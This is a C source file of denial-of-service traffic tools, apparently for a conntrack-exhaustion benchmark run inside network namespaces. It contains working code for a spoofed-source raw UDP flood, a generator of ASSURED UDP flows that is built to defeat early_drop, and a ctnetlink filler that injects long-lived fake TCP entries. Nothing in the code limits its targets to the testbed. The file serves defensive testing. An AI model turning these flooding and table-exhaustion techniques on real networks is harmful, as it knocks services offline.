/*
 * dos-tools: the attack traffic of the DoS testbed (bench/dos.ts), compiled per run with
 * cc -O2 into a temporary directory. Every packet stays inside the testbed's namespaces:
 * destinations are the server namespace's address, sources are spoofed from a prefix the
 * router routes back to the attacker namespace.
 *
 *   dos-tools udpflood DST SRCNET PREFIXLEN RATE SECONDS
 *       unreplied UDP: raw IP_HDRINCL datagrams from random sources in SRCNET/PREFIXLEN and
 *       random ports to DST, ports 20000-59999 (the server drops them): one new
 *       conntrack entry per packet in the router, never replied, never ASSURED.
 *   dos-tools udpflows DST DPORT SRCNET PREFIXLEN RATE SECONDS [TOTAL]
 *       real bidirectional UDP flows: flow i (source SRCNET + i mod hosts, source port
 *       from i) sends one datagram to DST:DPORT (an echo server), and again 2.2 s later,
 *       so the router's entry sees the reply and then a packet after its 2 s stream mark:
 *       it turns ASSURED (120 s stream timeout). RATE new flows per second; at most TOTAL
 *       flows (the attacker stops opening new ones once the table is full of its ASSURED
 *       flows: new unassured ones would only feed the kernel's early_drop).
 *   dos-tools echo PORT
 *       UDP echo server (recvmmsg / sendmmsg) for udpflows, until killed.
 *   dos-tools ctfill SRCNET PREFIXLEN DST RATE SECONDS [TIMEOUT]
 *       entries created over ctnetlink in the namespace it runs in: TCP ESTABLISHED,
 *       ASSURED|SEEN_REPLY|CONFIRMED, timeout TIMEOUT (default 432000 s), orig
 *       SRC:port -> DST:80 (and further ports when SRCNET is small), 64 IPCTNL_MSG_CT_NEW messages per send, no ACK (refusals,
 *       e.g. table full, come back as errors that are drained and counted).
 *
 * Each prints one JSON line at the end: {"sent":N,"failed":N,"seconds":S,"perSecond":R,
 * "cpuUser":S,"cpuSystem":S} (its own CPU time: ctnetlink inserts count as system time).
 * RATE 0 = as fast as possible. SECONDS may be fractional.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netfilter/nfnetlink_conntrack.h>
#include <linux/netfilter/nf_conntrack_common.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64

static volatile sig_atomic_t stop_flag = 0;
static void on_signal(int s) { (void)s; stop_flag = 1; }

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint32_t addr(const char *s) {
  struct in_addr a;
  if (inet_pton(AF_INET, s, &a) != 1) {
    fprintf(stderr, "bad address %s\n", s);
    exit(2);
  }
  return ntohl(a.s_addr);
}

static uint64_t rng = 88172645463325252ull;
static inline uint32_t xr(void) {
  rng ^= rng << 13;
  rng ^= rng >> 7;
  rng ^= rng << 17;
  return (uint32_t)rng;
}

/* Pace: how many to send now so that sent/elapsed stays at rate (0 = unlimited). */
static unsigned long allowance(double t0, double rate, unsigned long sent) {
  if (rate <= 0) return BATCH;
  double want = (now() - t0) * rate;
  if (want <= (double)sent) {
    struct timespec ts = {0, 200000};
    nanosleep(&ts, NULL);
    return 0;
  }
  double d = want - (double)sent;
  return d > BATCH ? BATCH : (unsigned long)d;
}

static void report(unsigned long sent, unsigned long failed, double t) {
  struct rusage ru;
  getrusage(RUSAGE_SELF, &ru);
  printf("{\"sent\":%lu,\"failed\":%lu,\"seconds\":%.3f,\"perSecond\":%.0f,\"cpuUser\":%.2f,\"cpuSystem\":%.2f}\n", sent, failed, t,
         t > 0 ? sent / t : 0.0, ru.ru_utime.tv_sec + ru.ru_utime.tv_usec / 1e6, ru.ru_stime.tv_sec + ru.ru_stime.tv_usec / 1e6);
  fflush(stdout);
}

struct pkt {
  struct iphdr ip;
  struct udphdr udp;
  char data[8];
};

static int raw_socket(void) {
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("socket(raw)");
    exit(2);
  }
  int one = 1;
  setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one);
  int sndbuf = 4 << 20;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
  return fd;
}

static void fill_pkt(struct pkt *p, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport) {
  memset(p, 0, sizeof *p);
  p->ip.version = 4;
  p->ip.ihl = 5;
  p->ip.ttl = 64;
  p->ip.protocol = IPPROTO_UDP;
  p->ip.tot_len = htons(sizeof *p);
  p->ip.saddr = htonl(src);
  p->ip.daddr = htonl(dst);
  p->udp.source = htons(sport);
  p->udp.dest = htons(dport);
  p->udp.len = htons(sizeof p->udp + sizeof p->data);
  memcpy(p->data, "ctevdos!", 8);
}

/* Send up to n packets built by the caller; returns failures. */
static unsigned long send_batch(int fd, struct pkt *pk, struct sockaddr_in *to, unsigned n) {
  static struct mmsghdr m[BATCH];
  static struct iovec iov[BATCH];
  for (unsigned i = 0; i < n; i++) {
    iov[i].iov_base = &pk[i];
    iov[i].iov_len = sizeof pk[i];
    memset(&m[i].msg_hdr, 0, sizeof m[i].msg_hdr);
    m[i].msg_hdr.msg_name = &to[i];
    m[i].msg_hdr.msg_namelen = sizeof to[i];
    m[i].msg_hdr.msg_iov = &iov[i];
    m[i].msg_hdr.msg_iovlen = 1;
  }
  unsigned done = 0;
  unsigned long failed = 0;
  while (done < n) {
    int r = sendmmsg(fd, m + done, n - done, 0);
    if (r < 0) {
      if (errno == EINTR) continue;
      failed++;
      done++;
      continue;
    }
    done += (unsigned)r;
  }
  return failed;
}

static int udpflood(char **a) {
  uint32_t dst = addr(a[0]), net = addr(a[1]);
  int plen = atoi(a[2]);
  double rate = atof(a[3]), secs = atof(a[4]);
  uint32_t hosts = plen >= 32 ? 1 : (1u << (32 - plen));
  int fd = raw_socket();
  static struct pkt pk[BATCH];
  static struct sockaddr_in to[BATCH];
  unsigned long sent = 0, failed = 0;
  double t0 = now();
  while (!stop_flag && now() - t0 < secs) {
    unsigned long n = allowance(t0, rate, sent);
    for (unsigned i = 0; i < n; i++) {
      uint32_t src = (net & ~(hosts - 1)) | (xr() & (hosts - 1));
      fill_pkt(&pk[i], src, dst, (uint16_t)(1024 + xr() % 60000), (uint16_t)(20000 + xr() % 40000));
      to[i].sin_family = AF_INET;
      to[i].sin_addr.s_addr = htonl(dst);
      to[i].sin_port = 0;
    }
    if (n) failed += send_batch(fd, pk, to, (unsigned)n);
    sent += n;
  }
  report(sent, failed, now() - t0);
  return 0;
}

static void flow_tuple(unsigned long i, uint32_t net, uint32_t hosts, uint32_t *src, uint16_t *sport) {
  *src = (net & ~(hosts - 1)) | (uint32_t)(i % hosts);
  *sport = (uint16_t)(1024 + (i / hosts) % 60000);
}

static int udpflows(char **a) {
  uint32_t dst = addr(a[0]);
  uint16_t dport = (uint16_t)atoi(a[1]);
  uint32_t net = addr(a[2]);
  int plen = atoi(a[3]);
  double rate = atof(a[4]), secs = atof(a[5]);
  unsigned long total = a[6] ? strtoul(a[6], NULL, 10) : 0;
  uint32_t hosts = plen >= 32 ? 1 : (1u << (32 - plen));
  if (rate <= 0) rate = 50000;
  int fd = raw_socket();
  static struct pkt pk[BATCH];
  static struct sockaddr_in to[BATCH];
  unsigned long created = 0, second = 0, failed = 0;
  double t0 = now();
  /* Flows get their second packet 2.2 s after the first; keep going until the last ones had it. */
  while (!stop_flag) {
    double t = now() - t0;
    if (t > secs + 2.3) break;
    unsigned n = 0;
    /* second packets due: flows created before t - 2.2 */
    double due = (t - 2.2) * rate;
    while (n < BATCH && (double)second < due && second < created) {
      uint32_t src;
      uint16_t sport;
      flow_tuple(second++, net, hosts, &src, &sport);
      fill_pkt(&pk[n], src, dst, sport, dport);
      to[n].sin_family = AF_INET;
      to[n].sin_addr.s_addr = htonl(dst);
      n++;
    }
    if (t < secs) {
      double want = t * rate;
      while (n < BATCH && (double)created < want && (total == 0 || created < total)) {
        uint32_t src;
        uint16_t sport;
        flow_tuple(created++, net, hosts, &src, &sport);
        fill_pkt(&pk[n], src, dst, sport, dport);
        to[n].sin_family = AF_INET;
        to[n].sin_addr.s_addr = htonl(dst);
        n++;
      }
    }
    if (n) failed += send_batch(fd, pk, to, n);
    else {
      struct timespec ts = {0, 200000};
      nanosleep(&ts, NULL);
    }
  }
  report(created, failed, now() - t0);
  return 0;
}

static int echo(char **a) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in me = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(a[0])), .sin_addr.s_addr = INADDR_ANY};
  int rcv = 8 << 20;
  setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcv, sizeof rcv);
  if (bind(fd, (struct sockaddr *)&me, sizeof me) != 0) {
    perror("bind");
    return 2;
  }
  static struct mmsghdr m[BATCH];
  static struct iovec iov[BATCH];
  static struct sockaddr_in from[BATCH];
  static char buf[BATCH][256];
  unsigned long n = 0;
  while (!stop_flag) {
    for (int i = 0; i < BATCH; i++) {
      iov[i].iov_base = buf[i];
      iov[i].iov_len = sizeof buf[i];
      memset(&m[i].msg_hdr, 0, sizeof m[i].msg_hdr);
      m[i].msg_hdr.msg_name = &from[i];
      m[i].msg_hdr.msg_namelen = sizeof from[i];
      m[i].msg_hdr.msg_iov = &iov[i];
      m[i].msg_hdr.msg_iovlen = 1;
    }
    int r = recvmmsg(fd, m, BATCH, 0, NULL);
    if (r <= 0) continue;
    for (int i = 0; i < r; i++) iov[i].iov_len = m[i].msg_len;
    sendmmsg(fd, m, (unsigned)r, 0);
    n += (unsigned)r;
  }
  report(n, 0, 0);
  return 0;
}

/* ---- ctnetlink ---- */

static char *put_attr(char *p, uint16_t type, const void *data, uint16_t len) {
  struct nlattr *a = (struct nlattr *)p;
  a->nla_type = type;
  a->nla_len = (uint16_t)(NLA_HDRLEN + len);
  if (len) memcpy(p + NLA_HDRLEN, data, len);
  memset(p + NLA_HDRLEN + len, 0, NLA_ALIGN(len) - len);
  return p + NLA_HDRLEN + NLA_ALIGN(len);
}

static char *begin(char *p, uint16_t type, char **start) {
  *start = p;
  struct nlattr *a = (struct nlattr *)p;
  a->nla_type = (uint16_t)(type | NLA_F_NESTED);
  return p + NLA_HDRLEN;
}

static void end(char *p, char *start) { ((struct nlattr *)start)->nla_len = (uint16_t)(p - start); }

static char *tuple(char *p, uint16_t type, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport) {
  char *t, *ip, *pr;
  p = begin(p, type, &t);
  p = begin(p, CTA_TUPLE_IP, &ip);
  uint32_t s = htonl(src), d = htonl(dst);
  p = put_attr(p, CTA_IP_V4_SRC, &s, 4);
  p = put_attr(p, CTA_IP_V4_DST, &d, 4);
  end(p, ip);
  p = begin(p, CTA_TUPLE_PROTO, &pr);
  uint8_t proto = IPPROTO_TCP;
  uint16_t sp = htons(sport), dp = htons(dport);
  p = put_attr(p, CTA_PROTO_NUM, &proto, 1);
  p = put_attr(p, CTA_PROTO_SRC_PORT, &sp, 2);
  p = put_attr(p, CTA_PROTO_DST_PORT, &dp, 2);
  end(p, pr);
  end(p, t);
  return p;
}

static int ctfill(char **a, int argc) {
  uint32_t net = addr(a[0]);
  int plen = atoi(a[1]);
  uint32_t dst = addr(a[2]);
  double rate = atof(a[3]), secs = atof(a[4]);
  uint32_t timeout = argc > 5 ? (uint32_t)atol(a[5]) : 432000;
  uint32_t hosts = plen >= 32 ? 1 : (1u << (32 - plen));
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_NONBLOCK, NETLINK_NETFILTER);
  if (fd < 0) {
    perror("socket(netlink)");
    return 2;
  }
  int one = 1;
  setsockopt(fd, SOL_NETLINK, NETLINK_CAP_ACK, &one, sizeof one);
  int rcv = 4 << 20;
  setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &rcv, sizeof rcv);
  struct sockaddr_nl k = {.nl_family = AF_NETLINK};
  static char buf[BATCH * 256];
  static char rbuf[1 << 16];
  unsigned long sent = 0, failed = 0, i = (unsigned long)xr();
  uint32_t seq = 1;
  double t0 = now();
  while (!stop_flag && now() - t0 < secs) {
    unsigned long n = allowance(t0, rate, sent);
    char *p = buf;
    for (unsigned long j = 0; j < n; j++, i++) {
      struct nlmsghdr *h = (struct nlmsghdr *)p;
      h->nlmsg_type = (NFNL_SUBSYS_CTNETLINK << 8) | IPCTNL_MSG_CT_NEW;
      h->nlmsg_flags = NLM_F_REQUEST | NLM_F_CREATE | NLM_F_EXCL;
      h->nlmsg_seq = seq++;
      h->nlmsg_pid = 0;
      struct nfgenmsg *g = (struct nfgenmsg *)(p + NLMSG_HDRLEN);
      g->nfgen_family = AF_INET;
      g->version = NFNETLINK_V0;
      g->res_id = 0;
      char *q = p + NLMSG_HDRLEN + NLMSG_ALIGN(sizeof *g);
      uint32_t src = (net & ~(hosts - 1)) | (uint32_t)(i % hosts);
      uint16_t sport = (uint16_t)(1024 + (i / hosts) % 60000);
      /* few sources: vary the destination port too, so 4 sources can fill any table */
      uint16_t dport = (uint16_t)(80 + (i / ((unsigned long)hosts * 60000u)) % 60000);
      q = tuple(q, CTA_TUPLE_ORIG, src, dst, sport, dport);
      q = tuple(q, CTA_TUPLE_REPLY, dst, src, dport, sport);
      uint32_t status = htonl(IPS_ASSURED | IPS_SEEN_REPLY | IPS_CONFIRMED);
      q = put_attr(q, CTA_STATUS, &status, 4);
      uint32_t to = htonl(timeout);
      q = put_attr(q, CTA_TIMEOUT, &to, 4);
      char *pi, *tcp;
      q = begin(q, CTA_PROTOINFO, &pi);
      q = begin(q, CTA_PROTOINFO_TCP, &tcp);
      uint8_t st = 3; /* TCP_CONNTRACK_ESTABLISHED */
      q = put_attr(q, CTA_PROTOINFO_TCP_STATE, &st, 1);
      end(q, tcp);
      end(q, pi);
      h->nlmsg_len = (uint32_t)(q - p);
      p = q;
    }
    if (n) {
      if (sendto(fd, buf, (size_t)(p - buf), 0, (struct sockaddr *)&k, sizeof k) < 0 && errno != EINTR) failed += n;
      sent += n;
    }
    /* Drain refusals (table full: ENOMEM, clashes: EEXIST). */
    for (;;) {
      ssize_t r = recv(fd, rbuf, sizeof rbuf, 0);
      if (r <= 0) break;
      for (struct nlmsghdr *h = (struct nlmsghdr *)rbuf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
        if (h->nlmsg_type == NLMSG_ERROR && ((struct nlmsgerr *)NLMSG_DATA(h))->error != 0) failed++;
      }
    }
  }
  report(sent, failed, now() - t0);
  return 0;
}

int main(int argc, char **argv) {
  signal(SIGTERM, on_signal);
  signal(SIGINT, on_signal);
  if (argc >= 7 && strcmp(argv[1], "udpflood") == 0) return udpflood(argv + 2);
  if (argc >= 8 && strcmp(argv[1], "udpflows") == 0) return udpflows(argv + 2); /* argv[8] (TOTAL) optional: NULL-terminated argv */
  if (argc >= 3 && strcmp(argv[1], "echo") == 0) return echo(argv + 2);
  if (argc >= 7 && strcmp(argv[1], "ctfill") == 0) return ctfill(argv + 2, argc - 2);
  fprintf(stderr, "usage: see the header of bench/dos-tools.c\n");
  return 2;
}
